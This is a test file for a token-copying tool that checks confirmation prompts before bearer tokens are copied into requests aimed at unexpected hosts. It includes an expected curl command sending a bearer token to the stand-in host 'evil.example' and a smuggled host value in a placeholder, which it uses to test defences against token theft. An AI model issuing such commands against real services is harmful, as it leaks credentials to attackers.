import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { SampleRequest } from '../shared/preset';
import type { Question } from '../shared/question';
import { draftFor } from '../shared/test-support/preset-drafts';
import { zoe } from './demo/test-demo';
import { pick } from './identity/test-client';
import { TestProgram } from './test-program';

let program: TestProgram;

beforeEach(async () => {
  program = await new TestProgram().start();
  program.person = pick(zoe);
  await program.commands.chooseDemo();
  await expect.poll(() => program.state.snapshot.account).toBeDefined();
});

afterEach(() => program.stop());

/** As an import would: nobody has typed it. */
async function add(resource: string, request: Partial<SampleRequest>, id = 'imported'): Promise<string> {
  await program.presets.add({
    id,
    name: 'Imported',
    icon: 'custom',
    pinned: false,
    keepFresh: false,
    targets: {
      demo: {
        scopes: [`${resource}/.default`],
        requests: [{ method: 'GET', url: 'https://evil.example/', headers: [], ...request }],
      },
    },
  });
  return id;
}

const copy = (presetId: string, format: 'curl' | 'token' | 'powershell' = 'curl') =>
  format === 'token'
    ? program.commands.copyToken({ presetId })
    : program.commands.copySnippet({ presetId, format });
const question = (): Question | undefined => program.state.snapshot.question;
const fillIn = (values: Record<string, string>) =>
  program.commands.answerQuestion({ questionId: question()?.id ?? '', answer: { kind: 'fill-in', values } });
const saved = async (): Promise<string> =>
  readFile(join(program.folder, 'preset-answers.json'), 'utf8').catch(() => '');

describe('a token for a host that it may not be meant for', () => {
  it('is not copied before the person says so, and then without another question', async () => {
    const id = await add('https://vault.azure.net', {});
    await copy(id);
    expect(program.clipboard.text).toBe('');
    expect(question()).toMatchObject({ kind: 'host', doubt: 'wrong', host: 'evil.example', preset: { id } });
    await program.answer('cancel');
    expect(question()).toBeUndefined();
    expect(program.clipboard.text).toBe('');
    await copy(id);
    await program.answer('go-on');
    expect(program.clipboard.text).toMatch(/^curl "https:\/\/evil\.example\/" -H "Authorization: Bearer eyJ/);
    expect(question()).toBeUndefined();
    await copy(id, 'powershell');
    expect(program.clipboard.text).toMatch(/^Invoke-RestMethod/);
    expect(await saved()).toContain('evil.example');
    expect(await saved()).not.toContain('eyJ');
  });

  it('is asked about in every format with a request in it, and in no other', async () => {
    const id = await add('https://vault.azure.net', {});
    await copy(id, 'powershell');
    expect(question()?.kind).toBe('host');
    expect(program.clipboard.text).toBe('');
    await program.answer('cancel');
    await copy(id, 'token');
    expect(question()).toBeUndefined();
    expect(program.clipboard.text).toMatch(/^eyJ/);
  });

  it('is asked about again when the preset gets another resource', async () => {
    const id = await add('https://vault.azure.net', {});
    await copy(id);
    await program.answer('go-on');
    const preset = program.presets.find(id);
    const target = preset?.targets['demo'];
    if (preset === undefined || target === undefined) throw new Error('gone');
    const scopes = ['https://graph.microsoft.com/.default'];
    await program.presets.replace({ ...preset, targets: { demo: { ...target, scopes } } });
    await copy(id);
    expect(question()).toMatchObject({ kind: 'host', resource: 'https://graph.microsoft.com' });
  });

  it('is none where a person has typed it for an API of their own', async () => {
    const draft = draftFor('Orders', 'api://orders.example', 'https://{region}.orders.example/items');
    await program.commands.addPreset(draft);
    const id = program.presets.all.at(-1)?.id ?? '';
    await copy(id);
    expect(question()).toMatchObject({ kind: 'placeholders' });
    await fillIn({ region: 'eu' });
    expect(program.clipboard.text).toContain('"https://eu.orders.example/items"');
    expect(question()).toBeUndefined();
    const imported = await add('api://orders.example', { url: 'https://eu.orders.example/items' });
    await copy(imported);
    expect(question()).toMatchObject({ kind: 'host', doubt: 'unknown' });
  });

  it('is none of the questions that a late answer is for', async () => {
    const id = await add('https://vault.azure.net', {});
    await copy(id);
    const first = question()?.id ?? '';
    await copy(await add('https://vault.azure.net', { url: 'https://other.example/' }, 'another'));
    const answer = { kind: 'go-on' } as const;
    expect(await program.commands.answerQuestion({ questionId: first, answer })).toEqual({
      outcome: 'refused',
    });
    expect(program.clipboard.text).toBe('');
  });
});

describe('placeholders', () => {
  const url = 'https://{vault}.vault.azure.net/secrets/{secret}?v={version}';

  it('are asked for once and remembered', async () => {
    const id = await add('https://vault.azure.net', { url });
    expect(program.state.snapshot.presets.find((each) => each.id === id)?.hasPlaceholders).toBe(true);
    await copy(id);
    expect(program.clipboard.text).toBe('');
    expect(question()).toMatchObject({
      kind: 'placeholders',
      request: { url },
      fields: [
        { name: 'vault', place: 'host' },
        { name: 'secret', place: 'path' },
        { name: 'version', place: 'query' },
      ],
    });
    expect(await fillIn({ vault: 'evil.example/', secret: 'a' })).toEqual({ outcome: 'refused' });
    expect(await fillIn({ other: 'x' })).toEqual({ outcome: 'refused' });
    await fillIn({ vault: 'contoso', secret: 'a b', version: '1' });
    const filled = 'https://contoso.vault.azure.net/secrets/a%20b?v=1';
    expect(program.clipboard.text).toContain(`"${filled}"`);
    await copy(id);
    expect(question()).toBeUndefined();
    await program.commands.showPreset({ presetId: id });
    expect(program.state.snapshot.shownPreset?.requests[0]?.url).toBe(filled);
    await program.commands.editPlaceholders({ presetId: id });
    expect(question()).toMatchObject({ purpose: { kind: 'edit' }, fields: [{ value: 'contoso' }, {}, {}] });
    await fillIn({ vault: 'other', secret: '', version: '1' });
    await copy(id);
    expect(question()).toMatchObject({ fields: [{ name: 'secret' }] });
  });

  it('stay in what is copied where the person wants them to', async () => {
    const id = await add('https://vault.azure.net', { url });
    await copy(id);
    await program.answer('leave-in');
    expect(program.clipboard.text).toContain(url);
    expect(program.state.snapshot.clipboard?.placeholders).toEqual(['{vault}', '{secret}', '{version}']);
    await copy(id);
    expect(question()).toBeUndefined();
  });

  it('that are filled in lead to the question about the host', async () => {
    const id = await add('https://vault.azure.net', { url: 'https://{host}/secrets' });
    await copy(id);
    await fillIn({ host: 'evil.example' });
    expect(program.clipboard.text).toBe('');
    expect(question()).toMatchObject({ kind: 'host', host: 'evil.example' });
  });
});

it('what was answered goes with its preset, and comes back with it', async () => {
  const id = await add('https://vault.azure.net', { url: 'https://{vault}.vault.azure.net/' });
  await copy(id);
  await fillIn({ vault: 'contoso' });
  await program.commands.deletePreset({ presetId: id });
  await expect.poll(saved).not.toContain('contoso');
  await program.commands.restorePreset({ presetId: id });
  await expect.poll(saved).toContain('contoso');
  await copy(id);
  expect(question()).toBeUndefined();
});

it('a question goes with the window', async () => {
  await copy(await add('https://vault.azure.net', {}));
  program.commands.leaveWindow();
  expect(question()).toBeUndefined();
});
